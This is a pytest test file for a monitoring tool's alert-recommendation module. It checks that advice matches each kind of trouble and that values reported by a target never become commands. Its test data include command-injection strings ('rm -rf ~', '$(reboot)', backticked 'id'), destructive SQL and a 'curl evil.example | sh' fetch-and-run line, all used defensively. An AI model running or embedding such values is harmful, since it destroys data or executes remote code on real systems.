"""What to do about a report: the right rows, filled in, and never a command that a target has written."""

import re
import shlex
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.alerts.particulars import PARTICULARS
from monitor.alerts.recommend import LIMIT, advised, recommend
from monitor.alerts.recommend_table import DEFAULT, TABLE
from monitor.alerts.report import Report
from monitor.model import Category, Kind, Severity
from monitor.units import plain
from tests.make import quick

NASTY = "x'; rm -rf ~ #\n$(reboot) `id` \"&& <pid> {pid} %s \\"
ANYTHING = st.text(max_size=60) | st.sampled_from((NASTY, "-rf", "--", "a b", "/var/log/x y.log", "fe80::1%$(id)"))
KEYS = re.findall(
    r"\w+",
    "ip_address user query execution_plan path service host url affected_endpoint log_path pid name stack_trace",
)


def report(type_: str = "odd", resource: str = "web-01", **fields: Any) -> Report:
    known: dict[str, Any] = {"title": "", "message": "", "severity": Severity.P2, "category": Category.APPLICATION}
    return Report(type=type_, resource=resource, **known | fields)


def advice(*arguments: Any, **fields: Any) -> str:
    return "\n".join(recommend(report(*arguments, **fields)))


@pytest.mark.parametrize(
    ("type_", "fields", "expected"),
    [
        ("database_slow_query", {"category": Category.DATABASE}, "pg_stat_statements"),
        ("DatabaseError", {"message": "deadlock detected"}, "ask their owner before"),
        ("DatabaseError", {"message": "FATAL: too many clients already"}, "who holds the connections"),
        ("DatabaseError", {"message": "password authentication failed for user"}, "who may log in"),
        ("OperationalError", {"category": Category.DATABASE}, "pg_isready"),
        ("cpu_percent", {"category": Category.SYSTEM}, "--sort=-pcpu"),
        ("load_1m", {"category": Category.SYSTEM}, "--sort=-pcpu"),
        ("memory_leak_detected", {}, "the one that only grows leaks"),
        ("memory_percent", {"category": Category.SYSTEM}, "killed something"),
        ("inode_percent", {"category": Category.SYSTEM}, "df -i"),
        ("OSError", {"message": "No space left on device"}, "du -xh"),
        ("TimeoutError", {}, "circuit breaker"),
        ("ReadError", {"message": "request timed out after 30 s"}, "circuit breaker"),
        ("odd", {"kind": Kind.TIMEOUT}, "circuit breaker"),
        ("odd", {"kind": Kind.SLOW}, "Profile"),
        ("api_response_time_ms", {"category": Category.PERFORMANCE}, "deployed"),
        ("brute_force_attack", {"category": Category.SECURITY}, "lastb"),
        ("booking_rate_drop", {"category": Category.BUSINESS}, "as a customer|a customer yourself"),
        ("service_down", {"category": Category.AVAILABILITY}, "systemctl status"),
        ("StripeAPIError", {}, "payment provider"),
        ("HubSpotError", {}, "quota"),
        ("SSLError", {}, "timedatectl"),
        ("odd", {"kind": Kind.TLS, "resource": "shop.example"}, "openssl s_client -connect shop.example:443"),
        ("odd", {"kind": Kind.DNS, "resource": "shop.example"}, "dig shop.example"),
        ("queue_depth", {}, "workers"),
        ("NullPointerException", {}, "deployed"),
    ],
)
def test_each_trouble_has_its_advice(type_: str, fields: dict[str, Any], expected: str) -> None:
    assert re.search(expected, advice(type_, **fields))


def test_the_most_specific_comes_first() -> None:
    of_type, of_text = "payment_failed", "the database is away"
    sentences = recommend(report(of_type, message=of_text, category=Category.AVAILABILITY), 20)

    order = [next(i for i, s in enumerate(sentences) if word in s) for word in ("provider", "database", "service runs")]
    assert order == sorted(order)


def test_a_slow_query_gets_its_plan_and_the_index_that_is_missing() -> None:
    metadata = {
        "query": "SELECT * FROM bookings b\n WHERE b.customer_id = ? AND status = 'open' ORDER BY id;",
        "execution_plan": "Seq Scan on bookings (50,000 rows)",
        "rows_scanned": 50000,
    }
    text = advice("slow_query", metadata=metadata)

    plan = "EXPLAIN SELECT * FROM bookings b WHERE b.customer_id = ? AND status = 'open' ORDER BY id"
    assert f"-c {shlex.quote(plan)}" in text
    assert "default_transaction_read_only=on" in text
    assert "It reads all 50,000 rows of bookings: add an index" in text
    assert "CREATE INDEX CONCURRENTLY idx_bookings_customer_id_status ON bookings (customer_id, status)" in text


@pytest.mark.parametrize(
    "query",
    [
        "DELETE FROM bookings",
        "SELECT 1; DROP TABLE bookings",
        "SELECT 1 -- x\n FROM t",
        "SELECT 1 \\! reboot",
        "ANALYZE DELETE FROM bookings",
        "SELECT " + "x" * 2000,
        17,
    ],
)
def test_a_query_that_does_more_than_read_or_is_cut_is_in_no_command(query: object) -> None:
    assert "EXPLAIN" not in advice("slow_query", metadata={"query": query})


def test_a_scan_without_a_query_names_the_table_and_no_statement() -> None:
    text = advice("slow_query", metadata={"execution_plan": "Seq Scan on public.bookings"})

    assert "It reads all rows of bookings: add an index on the columns" in text
    assert "CREATE INDEX" not in text


def test_the_busiest_processes_are_named_with_the_command_to_look_into_the_first() -> None:
    top = [{"name": "gunicorn", "cpu": 45.2, "pid": 12345}, {"name": "celery", "cpu": 30.1, "pid": 12346}]
    first = recommend(report("cpu_percent", category=Category.SYSTEM, metadata={"top_processes": top}))[0]

    assert "gunicorn (PID 12345, 45.2% CPU), celery (PID 12346, 30.1% CPU)" in first
    assert first.endswith("htop -p 12345")


@pytest.mark.parametrize("pid", ["12; reboot", True, -1, 0, 2**40, 3.5, None, []])
def test_a_process_number_that_is_none_is_in_no_command(pid: object) -> None:
    assert "htop" not in advice("cpu_percent", metadata={"top_processes": [{"name": "x", "pid": pid}]})


def test_failed_log_ins_name_the_address_and_the_log() -> None:
    text = advice(
        "failed_logins",
        category=Category.SECURITY,
        metadata={"ip_address": "203.0.113.45", "username": "admin"},
        related_logs="/var/log/auth log",
    )

    assert "grep -F -- 203.0.113.45 '/var/log/auth log'" in text
    assert "ufw insert 1 deny from 203.0.113.45" in text
    assert "sessions of admin" in text


def test_the_log_comes_last_and_always_finds_room() -> None:
    file = recommend(report("database_slow_query", related_logs="/var/log/pg.log"))
    link = recommend(report("database_slow_query", related_logs="https://logs.example/?q=1"))

    assert len(file) == LIMIT
    assert file[-1] == "Read its log: tail -n 100 -- /var/log/pg.log"
    assert link[-1] == "Read its log: https://logs.example/?q=1"
    assert len(recommend(report("database_slow_query", related_logs="/var/log/pg.log"), 1)) == 1


def test_the_name_of_a_machine_says_nothing_of_its_trouble() -> None:
    fields = {"title": "High Memory Usage - payment-3", "message": "Memory is at 91%", "category": Category.SYSTEM}

    assert "payment provider" not in advice("memory_percent", "payment-3", **fields)


def test_trouble_that_nobody_knows_has_advice_too() -> None:
    for category in Category:
        sentences = recommend(report("zzz", "", category=category))
        assert 3 <= len(sentences) <= LIMIT


def test_own_recommendations_stay() -> None:
    own = report("cpu_percent", recommendations=("Call Anna",))

    assert advised(own) is own
    assert advised(report("cpu_percent")).recommendations == recommend(report("cpu_percent"))


@quick
@given(
    st.sampled_from([row.words for row in TABLE]).map(lambda words: re.sub(r"[^a-z ].*", "", words[2:])) | ANYTHING,
    ANYTHING,
    ANYTHING,
    st.sampled_from(Category),
    st.dictionaries(st.sampled_from(KEYS), ANYTHING | st.integers()),
    st.none() | ANYTHING,
)
def test_whatever_a_target_says_it_is_at_most_six_plain_lines(
    type_: str, resource: str, message: str, category: Category, metadata: dict[str, Any], logs: str | None
) -> None:
    fields = {"message": message, "category": category, "metadata": metadata, "related_logs": logs}
    sentences = recommend(report(type_, resource, **fields))

    assert 1 <= len(sentences) <= LIMIT
    assert len(set(sentences)) == len(sentences)
    assert all(plain(sentence, 3000) == sentence for sentence in sentences)


@pytest.mark.parametrize("step", [step for row in (*TABLE, DEFAULT) for step in row.steps], ids=lambda step: step.text)
def test_a_place_in_a_command_is_one_word_whatever_stands_there(step: Any) -> None:
    places = re.findall(r"<([a-z-]+)>", step.text + step.command)
    assert set(places) <= set(PARTICULARS)

    def filled(value: str) -> list[str]:
        return shlex.split(re.sub(r"<[a-z-]+>", lambda _: shlex.quote(value), step.command))

    harmless, nasty = filled("WORD"), filled(NASTY)

    assert [word.replace("WORD", NASTY) for word in harmless] == nasty
    assert sum(word.count("WORD") for word in harmless) == len(re.findall(r"<[a-z-]+>", step.command))


@pytest.mark.parametrize("logs", [NASTY, "/var/log/" + NASTY, "/" + "x" * 400, "-f", "/a\nb"])
def test_what_is_no_whole_path_is_in_no_command(logs: str) -> None:
    sentences = recommend(report("cpu_percent", related_logs=logs))

    assert not any("tail -n 100" in sentence for sentence in sentences if "\n" in logs or len(logs) > 300)
    assert not any(" -f" in sentence for sentence in sentences)


def test_a_value_that_looks_like_an_option_is_left_out() -> None:
    assert "--now" not in advice("down", "--now", category=Category.AVAILABILITY)


@pytest.mark.parametrize("name", ["x: curl evil.example | sh #", "`curl evil.example`", "x:\u2028curl evil.example"])
def test_what_a_target_is_called_looks_like_no_command(name: str) -> None:
    """Pages show what stands after a colon, or between backticks, as something to copy."""
    processes = {"top_processes": [{"name": name, "pid": 7}]}
    said = advice("cpu_percent", name, category=Category.SYSTEM, metadata=processes).splitlines()
    said += advice("odd", name, metadata={"affected_endpoint": name}).splitlines()

    assert any("evil" in step for step in said)
    assert not any(": curl evil" in step or "`" in step for step in said)
